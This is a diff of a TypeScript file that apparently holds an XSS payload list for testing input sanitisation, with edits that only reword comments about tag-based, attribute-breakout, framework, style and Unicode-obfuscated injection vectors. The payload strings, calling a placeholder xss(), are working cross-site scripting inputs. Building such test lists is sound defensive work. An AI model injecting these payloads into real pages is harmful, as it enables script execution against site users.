@@ -1,10 +1,10 @@
 /**
- * Texts that run `xss()`, or break out of where they stand, in a page that takes text for markup, a
- * template, an address, a style or code. All fit into the shortest text that a user may choose: a
- * user name of 64 characters.
+ * Texts that call `xss()`, or break out of their context, in a page that treats text as markup, a
+ * template, an address, a style or code. All of them fit into the shortest text that users choose,
+ * a user name of 64 characters.
  */
 export const xssPayloads: readonly string[] = [
-  // Elements that run by being there.
+  // Elements that run just by being present.
   '<script>xss()</script>',
   '<SCRIPT SRC=data:,xss()></SCRIPT>',
   '<scr<script>ipt>xss()</scr</script>ipt>',
@@ -29,7 +29,7 @@ export const xssPayloads: readonly string[] = [
   '<style onload=xss()></style>',
   '<a href=# onmouseover=xss()>x</a>',
   '<div style="animation:x 1s" onanimationstart=xss()>',
-  // Out of an attribute, out of a string.
+  // Breaking out of an attribute or a string.
   '" autofocus onfocus=xss() x="',
   '\' onmouseover=xss() x=\'',
   '`onmouseover=xss()',
@@ -58,7 +58,7 @@ export const xssPayloads: readonly string[] = [
   '<div v-html="xss()" @vue:mounted="xss()"></div>',
   // Styles.
   '<style>@import "javascript:xss()";*{color:red}</style>',
-  // Unicode: full width, hidden, turned round, and halves that meet.
+  // Unicode: full width, hidden or reversed characters, and halves that join.
   '＜script＞xss()＜/script＞',
   '\u202E<img src=x onerror=xss()>\u2066',
   '<im\u200Bg src=x onerror=xss()>\uFEFF<svg\u00A0onload=xss()>',
